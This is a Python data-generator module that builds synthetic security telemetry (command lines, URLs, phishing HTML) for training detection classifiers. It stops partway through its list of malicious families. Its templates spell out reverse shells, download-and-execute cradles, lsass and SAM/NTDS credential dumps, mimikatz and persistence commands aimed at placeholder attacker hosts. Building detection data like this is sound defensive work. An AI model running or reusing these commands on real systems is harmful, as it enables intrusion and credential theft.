"""A small synthetic telemetry set for the embedded default demo, written by our own generators.

Command lines, URLs and HTML pages are made from templates filled with random parts (users, hosts,
paths, IPs, brands). Hard negatives are there on purpose (benign certutil, encoded PowerShell from a
management agent, `curl | sh` installers, real login pages), so that no single token separates the
classes. Each artifact gets four parts in mixed formats, split into shards:

* labelled:   clean, analyst-labelled rows of the groups analysts know, enriched in detections;
* noisy:      a larger set with label noise applied (`true_label` keeps the clean label);
* unlabelled: label null;
* test:       clean, and group-disjoint from the other three parts.

`python -c "from smallsec_ray.data.demo import write_demo_data; write_demo_data('demo-data')"` writes it.
"""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import random
import re
import string
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import IO
from urllib.parse import urlsplit

import pyarrow as pa
import pyarrow.parquet as pq

from smallsec_ray.data.noise import inject_label_noise
from smallsec_ray.data.schema import GROUP, ID, LABEL, SOURCE
from smallsec_ray.data.splits import TEST, assign_splits
from smallsec_ray.errors import SmallsecError

ARTIFACTS = ("cmdline", "url", "html")
PARTS = ("labelled", "noisy", "unlabelled", "test")
CLASSES = {"cmdline": ("benign", "malicious"), "url": ("benign", "malicious"), "html": ("benign", "phishing")}
TEXT_COLUMN = {"cmdline": "text", "url": "url", "html": "html"}
POSITIVE_SHARE = {"cmdline": 0.3, "url": 0.4, "html": 0.35}
LABELLED_POSITIVE_SHARE = 0.45
# Signature-style noise: detections are missed far more often than benign rows are flagged.
FLIP_RATES = {artifact: {classes[1]: 0.2, classes[0]: 0.04} for artifact, classes in CLASSES.items()}
NOVEL_SHARE = 0.15  # share of the non-test rows whose groups analysts never labelled (noisy/unlabelled only)
MIN_ROWS = 20


@dataclass(frozen=True)
class Part:
    fmt: str  # parquet, jsonl, jsonl.gz, csv or csv.gz
    shards: int
    rows: int  # at scale 1.0


LAYOUT = {
    "cmdline": {"labelled": Part("parquet", 2, 800), "noisy": Part("jsonl.gz", 4, 4000),
                "unlabelled": Part("jsonl", 2, 1000), "test": Part("csv", 2, 800)},
    "url": {"labelled": Part("csv", 2, 500), "noisy": Part("parquet", 3, 2500),
            "unlabelled": Part("jsonl.gz", 2, 600), "test": Part("jsonl", 2, 500)},
    "html": {"labelled": Part("jsonl.gz", 2, 300), "noisy": Part("parquet", 3, 1200),
             "unlabelled": Part("jsonl", 2, 400), "test": Part("csv.gz", 2, 300)},
}

README = """Synthetic demo data for smallsec-ray
====================================

Everything here was made up by smallsec_ray/data/demo.py (seed {seed}, scale {scale}) from templates
and random parts; no row comes from real telemetry. It exists so that the embedded default jobs run on
a machine without real data. Do not draw conclusions about real detection quality from it.

Artifacts: cmdline (column `text`), url (column `url`), html (column `html`); every file also has
`id`, `label`, `source` and `group`; cmdline also `platform` and `family` (the benign tool set or the
attack technique; `group` is the binary). Classes: {classes}.

Parts of each artifact (each split into shards, in mixed formats on purpose):
* labelled/    clean, analyst-style labels
* noisy/       labels with noise applied ({flip_rates}); `true_label` holds the clean label
* unlabelled/  label is null
* test/        clean labels; its groups appear in no other part
"""


# ---------------------------------------------------------------------------------------------------
# Random parts. A template names a part as {name}; word entries may themselves hold parts.

def _digits(n: int) -> Callable[[random.Random], str]:
    return lambda rng: str(rng.randint(10 ** (n - 1), 10**n - 1))


def _chars(alphabet: str, n: int) -> Callable[[random.Random], str]:
    return lambda rng: "".join(rng.choices(alphabet, k=n))


def _encoded(words: str, encoding: str) -> Callable[[random.Random], str]:
    return lambda rng: base64.b64encode(_fill("{" + words + "}", rng).encode(encoding)).decode()


def _ip_public(rng: random.Random) -> str:
    first = rng.choice((5, 23, 31, 37, 45, 46, 62, 77, 79, 91, 94, 103, 104, 107, 141, 146, 159, 176, 178,
                        185, 188, 193, 194, 195, 212, 217))
    return f"{first}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _ip_internal(rng: random.Random) -> str:
    return rng.choice((f"10.{rng.randint(0, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                       f"192.168.{rng.randint(0, 20)}.{rng.randint(1, 254)}",
                       f"172.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"))


def _guid(rng: random.Random) -> str:
    hexes = [_chars("0123456789abcdef", n)(rng) for n in (8, 4, 4, 4, 12)]
    return "-".join(hexes)


def _json_config(rng: random.Random) -> str:
    config = {"env": rng.choice(WORDS["env"]), "replicas": rng.randint(1, 6), "region": "eu-west-1"}
    return base64.b64encode(json.dumps(config).encode()).decode()


LOWER = string.ascii_lowercase
ALNUM = string.ascii_letters + string.digits

GENERATED: dict[str, Callable[[random.Random], str]] = {
    "ip_public": _ip_public,
    "ip_internal": _ip_internal,
    "n": lambda rng: str(rng.randint(2, 30)),
    "n3": _digits(3),
    "n4": _digits(4),
    "n8": _digits(8),
    "n12": _digits(12),
    "n18": _digits(18),
    "pid": lambda rng: str(rng.randint(400, 15000)),
    "year": lambda rng: str(rng.randint(2019, 2025)),
    "mm": lambda rng: f"{rng.randint(1, 12):02d}",
    "dd": lambda rng: f"{rng.randint(1, 28):02d}",
    "nn": lambda rng: f"{rng.randint(1, 24):02d}",
    "ver": lambda rng: f"{rng.randint(0, 9)}.{rng.randint(0, 30)}.{rng.randint(0, 12)}",
    "rand": lambda rng: _chars(LOWER, rng.randint(5, 9))(rng),
    "hex8": _chars("0123456789abcdef", 8),
    "hex32": _chars("0123456789abcdef", 32),
    "git_sha": _chars("0123456789abcdef", 7),
    "short": _chars(ALNUM, 7),
    "paste_id": _chars(ALNUM, 8),
    "yt_id": _chars(ALNUM + "-_", 11),
    "asin": lambda rng: "B0" + _chars(string.ascii_uppercase + string.digits, 8)(rng),
    "cid": lambda rng: "bafybei" + _chars("abcdefghijklmnopqrstuvwxyz234567", 52)(rng),
    "wallet": lambda rng: "4" + _chars("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 94)(rng),
    "tg_token": lambda rng: f"{_digits(10)(rng)}:AA{_chars(ALNUM, 33)(rng)}",
    "guid": _guid,
    "guid_braced": lambda rng: "{" + _guid(rng).upper() + "}",
    "bcd_entry": lambda rng: rng.choice(("{default}", "{current}")),
    "b64_ps": _encoded("ps_cradle", "utf-16-le"),
    "b64_ps_admin": _encoded("ps_admin", "utf-16-le"),
    "b64_sh": _encoded("sh_payload", "utf-8"),
    "b64_config": _json_config,
    "b64_key": _chars(ALNUM + "+/", 68),
}

WORDS: dict[str, tuple[str, ...]] = {
    # people, machines, places
    "user": ("alice", "bob", "jdoe", "mchen", "priya.s", "kwilson", "lnguyen", "tgarcia", "rsingh", "emma.k",
             "oscar", "dmitri", "fatima", "svc_backup", "svc_deploy", "admin", "devops", "build"),
    "host": ("{role}-{env}-{nn}", "{role}{nn}", "ws-{dept_short}-{n3}"),
    "role": ("web", "db", "app", "build", "api", "cache", "mq", "fs", "jump", "log", "k8s-node"),
    "env": ("dev", "staging", "prod", "qa"),
    "dept": ("Finance", "HR", "Engineering", "Marketing", "Legal", "Sales"),
    "dept_short": ("fin", "hr", "eng", "mkt", "legal", "sales"),
    "corp_domain": ("corp.contoso.com", "ad.fabrikam.local", "northwind.internal", "tailspin.lan"),
    "corp_short": ("CONTOSO", "FABRIKAM", "NORTHWIND", "TAILSPIN"),
    "fileserver": ("fs-01", "fs-02", "nas01", "files.{corp_domain}"),
    "share": ("Public", "Projects", "Finance", "HR", "Engineering", "deploy", "Scans"),
    "site": ("intranet", "wiki", "shop", "status", "grafana", "jenkins", "portal"),
    "corp_site": ("{site}.{corp_domain}",),
    "printer": ("HP-LaserJet-2F", "Canon-Finance", "Xerox-Lobby"),
    # development
    "org": ("contoso", "fabrikam-dev", "northwind-labs", "tailspin-oss", "kubernetes", "psf", "hashicorp"),
    "repo": ("billing-api", "web-frontend", "infra", "data-pipeline", "auth-service", "docs", "mobile-app",
             "ml-models", "terraform-modules", "ops-scripts", "etl-jobs", "helm-charts"),
    "branch": ("main", "develop", "master", "feature/{jira}", "fix/{jira}-{slug}", "release/{ver}"),
    "jira": ("OPS-{n3}", "PAY-{n3}", "WEB-{n4}", "INFRA-{n3}", "DATA-{n3}"),
    "slug": ("login-timeout", "retry-logic", "null-check", "bump-deps", "cache-headers", "flaky-test"),
    "commit_msg": ("Fix {slug}", "Add retries to the {component}", "Bump {pip_pkg} to {ver}", "Refactor {component}",
                   "Update README", "WIP", "Merge branch {branch}"),
    "component": ("billing service", "auth middleware", "CI pipeline", "API client", "config loader"),
    "lin_dir": ("/home/{user}/{repo}", "/srv/{repo}", "/var/www/{site}", "/opt/{repo}", "/data/{repo}/exports",
                "~/projects/{repo}"),
    "lin_file": ("{lin_dir}/{fname}.{ext}",),
    "fname": ("config", "main", "app", "report", "settings", "index", "utils", "backup", "data", "notes"),
    "ext": ("py", "log", "json", "yaml", "csv", "txt", "md", "conf", "sh", "sql"),
    "win_dir": (r"C:\Users\{user}\Documents", r"C:\Users\{user}\Downloads", r"D:\Data\{dept}",
                r"C:\Projects\{repo}", r"C:\inetpub\wwwroot\{site}", r"\\{fileserver}\{share}\{dept}"),
    "win_file": (r"{win_dir}\{fname}.{win_ext}",),
    "win_ext": ("docx", "xlsx", "pdf", "csv", "log", "txt", "zip", "msi"),
    "svc": ("nginx", "docker", "sshd", "postgresql", "redis-server", "cron", "kubelet", "node-exporter", "haproxy"),
    "winsvc": ("Spooler", "wuauserv", "W32Time", "BITS", "WinRM", "MSSQLSERVER", "W3SVC", "Dnscache"),
    "svc_port": ("22", "80", "443", "3306", "5432", "6379", "8080", "8443", "9090", "9200"),
    "ns": ("default", "prod", "staging", "monitoring", "payments", "kube-system", "ingress-nginx"),
    "deploy": ("billing-api", "web", "worker", "auth-service", "redis", "prometheus", "grafana", "scheduler"),
    "image": ("nginx:1.25", "postgres:16", "redis:7-alpine", "python:3.11-slim", "node:20-alpine",
              "ghcr.io/{org}/{repo}:{ver}", "registry.{corp_domain}/{repo}:{git_sha}"),
    "pip_pkg": ("requests", "numpy", "pandas", "flask", "django", "pytest", "black", "boto3", "sqlalchemy",
                "pydantic", "fastapi", "uvicorn"),
    "npm_pkg": ("react", "express", "lodash", "typescript", "eslint", "vite", "jest", "axios", "prettier"),
    "apt_pkg": ("nginx", "postgresql-client", "htop", "jq", "git", "build-essential", "unzip", "tmux"),
    "brew_pkg": ("jq", "wget", "kubectl", "terraform", "node", "python@3.11", "gnupg", "htop"),
    "tool": ("kubectl", "helm", "terraform", "k9s", "yq", "ripgrep", "gh", "golangci-lint"),
    "vendor": ("zoom", "slack", "adobe", "jetbrains", "docker", "hashicorp", "elastic", "grafana"),
    "app": ("Zoom", "Slack", "AcrobatReader", "Teams", "Chrome", "Firefox", "7zip", "VSCode", "Git"),
    "app_exe": ("chrome.exe", "Teams.exe", "OUTLOOK.EXE", "EXCEL.EXE", "slack.exe", "Zoom.exe", "java.exe"),
    "winget_id": ("Microsoft.VisualStudioCode", "Git.Git", "7zip.7zip", "Mozilla.Firefox", "Python.Python.3.11",
                  "Docker.DockerDesktop"),
    "cert": ("server", "ca-root", "wildcard-{site}", "client-{user}", "{site}"),
    "script": ("deploy", "backup", "cleanup_logs", "rotate_keys", "sync_users", "healthcheck", "build",
               "migrate", "map_drives", "install_agent"),
    "benign_task": ("BackupNightly", r"\Microsoft\Windows\Defrag\ScheduledDefrag", "{app}UpdateTask",
                    "Cleanup {dept} Share", "ReportExport"),
    "sed_pair": ("localhost/db.{corp_domain}", "DEBUG=True/DEBUG=False", "http:/https:", "{ver}/{ver}"),
    "ps_admin": (r"Get-WmiObject -Namespace root\ccm -Class SMS_Client | Select-Object ClientVersion",
                 r"Get-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\* | "
                 "Select-Object DisplayName, DisplayVersion",
                 "Get-Service {winsvc} | Select-Object Status", "[Environment]::OSVersion.Version.ToString()",
                 "Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
                 r"Test-Path 'C:\Program Files\{app}'"),
    # attacker infrastructure
    "port": ("4444", "443", "8080", "1337", "9001", "53", "8443", "4443", "6666", "5555", "1234", "9999"),
    "web_port": ("80", "8080", "8000", "8888", "81"),
    "bad_domain": ("{bad_word}{bad_word}.{bad_tld}", "{bad_word}-{bad_word}.{bad_tld}", "{rand}.{bad_tld}"),
    "bad_word": ("update", "cdn", "secure", "cloud", "files", "static", "api", "sync", "mail", "office", "drive",
                 "docs", "service", "host", "data", "win", "micro", "soft"),
    "bad_tld": ("xyz", "top", "ru", "info", "online", "site", "club", "live", "icu", "su", "biz", "cc"),
    "bad_path": ("wp-content/uploads/{year}/{mm}", "images", "files", "dl", "cdn", "admin/js", "tmp"),
    "drop": ("svchost", "update", "winupdate", "chrome_update", "OneDriveSync", "msedge_helper", "{rand}",
             "invoice_{n3}", "scan_{n3}", "Document", "payload", "stage2", "agent"),
    "payload_url_exe": ("http://{ip_public}/{drop}.exe", "http://{ip_public}:{web_port}/{drop}.exe",
                        "https://{bad_domain}/{bad_path}/{drop}.exe", "http://{bad_domain}/{drop}.bin"),
    "payload_url_ps1": ("http://{ip_public}/{drop}.ps1", "https://{bad_domain}/{bad_path}/{drop}.ps1",
                        "https://raw.githubusercontent.com/{rand}/{rand}/main/{drop}.ps1",
                        "https://pastebin.com/raw/{paste_id}"),
    "payload_url_sct": ("http://{ip_public}/{drop}.sct", "https://{bad_domain}/{drop}.sct"),
    "payload_url_hta": ("http://{ip_public}/{drop}.hta", "https://{bad_domain}/{bad_path}/{drop}.hta"),
    "payload_url_sh": ("http://{ip_public}/{sh_name}", "http://{ip_public}:{web_port}/{sh_name}",
                       "https://{bad_domain}/{sh_name}"),
    "payload_url_bin": ("http://{ip_public}/{bin_name}", "http://{ip_public}:{web_port}/bins/{bin_name}"),
    "sh_name": ("bins.sh", "x.sh", "i.sh", "1.sh", "install.sh", "setup.sh", "ldr.sh", "{rand}.sh"),
    "tmp_name": ("{rand}",),
    "job": ("{rand}", "update", "WindowsUpdate{n3}", "sync"),
    "bin_name": ("x86", "mips", "arm7", "kinsing", "kdevtmpfsi", ".x", "{rand}"),
    "win_drop_dir": (r"C:\Users\{user}\AppData\Local\Temp", r"C:\ProgramData", r"C:\Users\Public", "%TEMP%",
                     r"%APPDATA%\Microsoft", r"C:\Windows\Temp", r"C:\Users\{user}\AppData\Roaming\{rand}"),
    "win_drop_exe": (r"{win_drop_dir}\{drop}.exe",),
    "win_drop_dll": (r"{win_drop_dir}\{drop}.dll",),
    "dll_export": ("DllRegisterServer", "Start", "Run", "EntryPoint", "#1", "StartW"),
    "mal_task": ("WindowsUpdateCheck", "GoogleUpdateTaskMachineQC", "OneDrive Standalone Update Task",
                 "SystemHealthMonitor", "MicrosoftEdgeUpdateCore", "{rand}"),
    "mal_user": ("support", "helpdesk1", "backup$", "adm_{rand}", "sqladmin", "{user}2"),
    "password": ("P@ssw0rd{n}", "Winter2024!", "{rand}{n}!", "Passw0rd!", "Welcome{n3}"),
    "pool": ("pool.minexmr.com", "xmr.{bad_domain}", "{ip_public}", "gulf.moneroocean.stream"),
    "pool_port": ("3333", "4444", "5555", "14444", "443"),
    "ssh_key": ("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ{b64_key} {attacker_id}",),
    "attacker_id": ("root@kali", "user@localhost", "x@x", "{rand}@{rand}"),
    "ps_cradle": ("IEX (New-Object Net.WebClient).DownloadString('{payload_url_ps1}')",
                  "iex(iwr '{payload_url_ps1}' -UseBasicParsing)",
                  "(New-Object Net.WebClient).DownloadFile('{payload_url_exe}','{win_drop_exe}');"
                  "Start-Process '{win_drop_exe}'",
                  "$c=New-Object Net.Sockets.TCPClient('{ip_public}',{port});$s=$c.GetStream()",
                  "Start-Process -WindowStyle Hidden -FilePath '{win_drop_exe}'"),
    "sh_payload": ("bash -i >& /dev/tcp/{ip_public}/{port} 0>&1", "curl -fsSL {payload_url_sh} | sh",
                   "wget -q -O /tmp/.{tmp_name} {payload_url_bin} && chmod +x /tmp/.{tmp_name} && /tmp/.{tmp_name}",
                   "nohup /tmp/{bin_name} >/dev/null 2>&1 &"),
}

_SLOT = re.compile(r"(?<!\$)\{([a-z][a-z0-9_]*)\}")
# A dropped file, a tool or an account named twice in one command line is the same one each time.
STICKY = frozenset({"tmp_name", "bin_name", "win_drop_exe", "win_drop_dll", "mal_user", "job", "tool"})


def _fill(template: str, rng: random.Random, memo: dict[str, str] | None = None) -> str:
    """Replaces every {name} with a random word of that name (or a generated value), recursively; `memo`
    keeps the sticky parts of one artifact."""
    memo = {} if memo is None else memo

    def part(match: re.Match) -> str:
        name = match.group(1)
        if name in memo:
            return memo[name]
        value = _fill(rng.choice(WORDS[name]), rng, memo) if name in WORDS else GENERATED[name](rng)
        if name in STICKY:
            memo[name] = value
        return value
    return _SLOT.sub(part, template)


# ---------------------------------------------------------------------------------------------------
# Command lines, grouped by the binary they run; a family names the tool set or the technique. A held-out
# binary tests what carries over from the tradecraft around it (paths, hosts, launchers), not the tool's name.

@dataclass(frozen=True)
class Family:
    name: str
    templates: tuple[str, ...]
    platform: str = ""
    weight: float = 1.0


def _family(name: str, platform: str, *templates: str, weight: float = 1.0) -> Family:
    return Family(name, templates, platform, weight)


BENIGN_CMDLINES = (
    _family("git", "linux", "git clone git@github.com:{org}/{repo}.git", "git checkout -b {branch}",
            "git pull --rebase origin {branch}", 'git commit -am "{commit_msg}"', "git push origin {branch}",
            "git log --oneline -n {n}", "git fetch --all --prune", "git diff --stat {branch}"),
    _family("ls", "linux", "ls -la {lin_dir}", "ls -lh /var/log/{svc}", "ls -1 *.{ext} | wc -l"),
    _family("grep", "linux", 'grep -rn "{fname}" src/', "grep -i error /var/log/{svc}/{svc}.log | tail -n {n}",
            "grep -v '^#' /etc/{svc}/{svc}.conf"),
    _family("find", "linux", "find {lin_dir} -name '*.{ext}' -mtime +{n} -delete",
            "find . -type f -size +{n}M", r"find /var/log -name '*.gz' -mtime +30 -exec rm {} \;"),
    _family("docker", "linux", "docker ps -a", "docker build -t {image} .", "docker run --rm -it {image} sh",
            "docker compose up -d {deploy}", "docker logs -f --tail {n} {repo}-{deploy}-1",
            "docker exec -it {repo}-db-1 psql -U postgres", "docker pull {image}", "docker system prune -af"),
    _family("kubectl", "linux", "kubectl get pods -n {ns}", "kubectl logs -f deploy/{deploy} -n {ns}",
            "kubectl rollout restart deployment/{deploy} -n {ns}", "kubectl apply -f k8s/{deploy}.yaml",
            "kubectl port-forward svc/{deploy} {svc_port}:{svc_port} -n {ns}",
            "kubectl get secret {deploy}-db -n {ns} -o jsonpath='{.data.password}' | base64 -d"),
    _family("systemctl", "linux", "sudo systemctl restart {svc}", "systemctl status {svc}",
            "sudo systemctl enable --now {svc}", "systemctl list-units --failed",
            "journalctl -u {svc} --since '{n} hours ago'", "sudo journalctl --vacuum-time=7d"),
    _family("ssh", "linux", "ssh {user}@{host}.{corp_domain}", "ssh -i ~/.ssh/id_ed25519 {user}@{ip_internal}",
            "ssh -L {svc_port}:localhost:{svc_port} {user}@jump-01.{corp_domain}",
            "scp {lin_file} {user}@{host}:/tmp/"),
    _family("rsync", "linux", "rsync -avz --delete {lin_dir}/ {user}@{host}:/srv/backup/{repo}/",
            "rsync -a --progress /data/{repo} /mnt/backup/"),
    _family("tar", "linux", "tar -czf {repo}-{year}{mm}{dd}.tar.gz {lin_dir}", "tar -xzf {tool}-{ver}.tar.gz -C /opt/",
            "tar -tvf backup-{year}{mm}{dd}.tar"),
    _family("python", "linux", "python3 -m venv .venv", "python3 manage.py migrate", "python3 -m pytest tests/ -q",
            "python3 scripts/{script}.py --env {env}", "python3 -m http.server 8000",
            "python3 -c 'import sys; print(sys.version)'", "pip install -r requirements.txt",
            "pip install --upgrade {pip_pkg}", "pip3 install {pip_pkg}=={ver}"),
    _family("npm", "linux", "npm ci", "npm install --save-dev {npm_pkg}", "npm run build", "npx eslint --fix src/",
            "make -j{n}", "make test", "make clean && make"),
    _family("curl", "linux", "curl -s https://api.github.com/repos/{org}/{repo}/releases/latest",
            "curl -I https://{corp_site}", "curl -fsSL https://get.docker.com -o get-docker.sh",
            "curl -X POST -H 'Content-Type: application/json' -d @payload.json http://{host}:{svc_port}/api/v1/jobs",
            "curl -fsSL https://sh.rustup.rs | sh", "curl -sSL https://install.python-poetry.org | python3 -",
            "curl -Lo /tmp/{tool}.tar.gz https://github.com/{org}/{tool}/releases/download/v{ver}/{tool}-linux-amd64.tar.gz"),
    _family("wget", "linux", "wget https://releases.{vendor}.com/{tool}/{ver}/{tool}_linux_amd64.zip",
            "wget -qO- https://packages.{vendor}.com/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/{vendor}.gpg",
            "wget -c https://{corp_site}/files/{fname}.tar.gz"),
    _family("ps", "linux", "ps aux | grep {svc}", "ps -ef --forest", "df -h", "du -sh /var/lib/docker/*", "free -m",
            "top -b -n 1 | head -n 20", "tail -f /var/log/{svc}/access.log", "tail -n {n} /var/log/syslog"),
    _family("chmod", "linux", "chmod +x scripts/{script}.sh", "sudo chown -R {user}:{user} /srv/{repo}",
            "chmod 600 ~/.ssh/id_ed25519", "chmod -R 755 /var/www/{site}"),
    _family("sed", "linux", "sed -i 's/{sed_pair}/g' config/{env}.yaml", "awk -F, '{print $1}' {fname}.csv",
            "sed -n '{n},{n}p' {lin_file}"),
    _family("openssl", "linux", "openssl x509 -in {cert}.pem -noout -dates",
            "openssl s_client -connect {corp_site}:443 -servername {corp_site}",
            "openssl req -new -newkey rsa:2048 -nodes -keyout {site}.key -out {site}.csr"),
    _family("base64", "linux", "echo '{b64_config}' | base64 -d | jq .", "base64 -w0 {cert}.pem > {cert}.b64",
            "echo -n \"{user}:$API_TOKEN\" | base64"),
    _family("crontab", "linux", "crontab -l", "crontab -e", "sudo crontab -u {user} -l"),
    _family("apt", "linux", "sudo apt-get update && sudo apt-get install -y {apt_pkg}", "sudo apt upgrade -y",
            "apt list --installed | grep {apt_pkg}"),
    _family("terraform", "linux", "terraform plan -out tfplan", "terraform apply tfplan", "terraform init -upgrade",
            "terraform workspace select {env}", "ansible-playbook -i inventories/{env} site.yml --limit {host}"),
    _family("nc", "linux", "nc -zv {host} {svc_port}", "nc -vz {ip_internal} 5432", "nc -l 8000 > {fname}.tar"),
    _family("brew", "macos", "brew install {brew_pkg}", "brew upgrade", "brew services restart {svc}",
            "defaults write com.apple.finder AppleShowAllFiles -bool true", "launchctl list | grep {vendor}"),
    _family("get-childitem", "windows", r"Get-ChildItem -Path {win_dir} -Recurse -Filter *.{win_ext}",
            r"Get-ChildItem C:\Logs | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-{n}) } | Remove-Item",
            r"gci -r {win_dir} | Measure-Object -Property Length -Sum"),
    _family("get-service", "windows", "Get-Service -Name {winsvc} | Restart-Service",
            "Get-Process | Sort-Object CPU -Descending | Select-Object -First {n}",
            "Get-EventLog -LogName System -Newest {n}", "Get-WinEvent -LogName Application -MaxEvents {n}"),
    _family("robocopy", "windows",
            r"robocopy {win_dir} \\{fileserver}\{share}\{dept} /MIR /R:2 /W:5 /LOG:C:\Logs\robocopy-{year}{mm}{dd}.log",
            r"robocopy C:\Data D:\Backup /E /Z /XO", r"xcopy /E /I /Y {win_dir} \\{fileserver}\{share}"),
    _family("ipconfig", "windows", "ipconfig /all", "ipconfig /flushdns", "netstat -ano | findstr :{svc_port}",
            "nslookup {host}.{corp_domain}", "ping -n 4 {ip_internal}",
            "Test-NetConnection {host}.{corp_domain} -Port {svc_port}"),
    _family("certutil", "windows", "certutil -hashfile {win_file} SHA256", "certutil -verify -urlfetch {cert}.cer",
            "certutil -store My", "certutil -addstore Root {cert}.cer", "certutil -dump {cert}.pfx"),
    _family("powershell", "windows", r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\{script}.ps1",
            'powershell -Command "Get-Service {winsvc}"', "pwsh -File ./build.ps1 -Configuration Release",
            r"powershell.exe -NonInteractive -File \\{fileserver}\netlogon\{script}.ps1"),
    _family("management-agent", "windows",
            "powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {b64_ps_admin}",
            "powershell.exe -NoProfile -EncodedCommand {b64_ps_admin}"),
    _family("invoke-webrequest", "windows",
            r"Invoke-WebRequest -Uri https://downloads.{vendor}.com/{app}-{ver}-x64.msi -OutFile $env:TEMP\{app}.msi",
            "Invoke-RestMethod -Uri https://{corp_site}/api/health",
            "iwr https://{corp_site}/files/{fname}.zip -OutFile {fname}.zip"),
    _family("schtasks", "windows", "schtasks /query /fo LIST /v", 'schtasks /run /tn "{benign_task}"',
            r'schtasks /create /tn "{benign_task}" /tr "C:\Scripts\{script}.cmd" /sc daily /st 02:00 '
            r"/ru {corp_short}\svc_backup"),
    _family("reg", "windows", r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /f {app}",
            r"reg export HKCU\Software\{vendor} C:\Backup\{vendor}.reg",
            r"reg add HKLM\SOFTWARE\Policies\{vendor}\{app} /v AutoUpdate /t REG_DWORD /d 0 /f"),
    _family("msiexec", "windows", r"msiexec /i \\{fileserver}\deploy\{app}-{ver}.msi /qn /norestart",
            "msiexec /x {guid_braced} /qn", "winget install --id {winget_id} -e --silent", "choco upgrade all -y"),
    _family("sc", "windows", "sc query {winsvc}", "sc config {winsvc} start= auto", "sc stop {winsvc}",
            "tasklist /svc", 'tasklist /fi "imagename eq {app_exe}"', "taskkill /IM {app_exe} /F"),
    _family("wmic", "windows", "wmic logicaldisk get size,freespace,caption", "wmic product get name,version",
            "wmic os get lastbootuptime", "bitsadmin /list /allusers /verbose"),
    _family("net", "windows", r"net use Z: \\{fileserver}\{share} /persistent:yes", "net start {winsvc}",
            "net user {user} /domain", "gpupdate /force", "gpresult /r", "whoami", "hostname"),
    _family("rundll32", "windows", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
            r"rundll32 printui.dll,PrintUIEntry /in /n \\print-01\{printer}", "rundll32.exe user32.dll,LockWorkStation",
            r'regsvr32 /s "C:\Program Files\{app}\{app}Shell.dll"'),
)

MALICIOUS_CMDLINES = (
    _family("encoded-powershell", "windows", "powershell.exe -nop -w hidden -enc {b64_ps}",
            "powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64_ps}",
            "cmd.exe /c powershell -e {b64_ps}",
            "powershell.exe -ExecutionPolicy bypass -windowstyle hidden -e {b64_ps}"),
    _family("powershell-cradle", "windows",
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('{payload_url_ps1}')\"",
            "powershell.exe -nop -c \"iex(iwr '{payload_url_ps1}' -UseBasicParsing)\"",
            "powershell -w hidden -c \"(New-Object System.Net.WebClient).DownloadFile('{payload_url_exe}',"
            "'{win_drop_exe}');Start-Process '{win_drop_exe}'\"",
            "Invoke-WebRequest -Uri {payload_url_exe} -OutFile {win_drop_exe}; Start-Process {win_drop_exe}"),
    _family("certutil-download", "windows", "certutil.exe -urlcache -split -f {payload_url_exe} {win_drop_exe}",
            "certutil -urlcache -f {payload_url_exe} {win_drop_exe} && {win_drop_exe}",
            r"certutil -decode {win_drop_dir}\{rand}.txt {win_drop_exe}"),
    _family("bitsadmin-download", "windows",
            "bitsadmin /transfer {rand} /download /priority high {payload_url_exe} {win_drop_exe}",
            "bitsadmin /create {job} & bitsadmin /addfile {job} {payload_url_exe} {win_drop_exe} & "
            "bitsadmin /resume {job}"),
    _family("rundll32-proxy", "windows", "rundll32.exe {win_drop_dll},{dll_export}",
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
            'GetObject("script:{payload_url_sct}")', "rundll32 {win_drop_dll},DllRegisterServer"),
    _family("regsvr32-scriptlet", "windows", "regsvr32 /s /n /u /i:{payload_url_sct} scrobj.dll",
            "regsvr32.exe /s {win_drop_dll}"),
    _family("mshta", "windows", "mshta {payload_url_hta}",
            'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc '
            '{b64_ps}"":close")', 'mshta.exe javascript:a=GetObject("script:{payload_url_sct}").Exec();close();'),
    _family("lsass-dump", "windows", r"procdump.exe -accepteula -ma lsass.exe {win_drop_dir}\lsass.dmp",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} {win_drop_dir}\{rand}.dmp full",
            'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    _family("hive-dump", "windows", r"reg save HKLM\SAM {win_drop_dir}\sam.save",
            r"reg save HKLM\SYSTEM {win_drop_dir}\system.save",
            r'ntdsutil "ac i ntds" "ifm" "create full {win_drop_dir}\ntds" q q',
            r"vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows"
            r"\NTDS\ntds.dit {win_drop_dir}\ntds.dit"),
    _family("schtasks-persistence", "windows",
            'schtasks /create /sc onlogon /tn "{mal_task}" /tr "{win_drop_exe}" /ru SYSTEM /f',
            'schtasks /create /tn "{mal_task}" /tr "powershell -w hidden -enc {b64_ps}" /sc minute /mo {n} /f'),
    _family("run-key-persistence", "windows",
            r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v "{mal_task}" /t REG_SZ '
            r'/d "{win_drop_exe}" /f',
            r'reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v {rand} /d "rundll32 {win_drop_dll},'
            r'{dll_export}" /f',
            r"New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name {rand} "
            "-Value '{win_drop_exe}'"),
    _family("service-persistence", "windows", 'sc create {rand} binPath= "{win_drop_exe}" start= auto',
